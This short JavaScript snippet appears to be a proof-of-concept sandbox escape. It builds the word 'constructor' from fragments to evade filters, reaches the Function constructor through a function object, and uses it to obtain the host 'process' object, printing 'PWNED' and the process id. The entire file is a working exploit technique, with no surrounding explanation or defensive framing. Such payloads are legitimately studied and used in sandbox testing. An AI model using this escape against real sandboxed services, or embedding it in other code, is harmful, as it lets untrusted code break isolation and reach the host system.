const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const o = { ...t };
const { go } = o;
console.log('PWNED', go(fn)('return process')().pid);
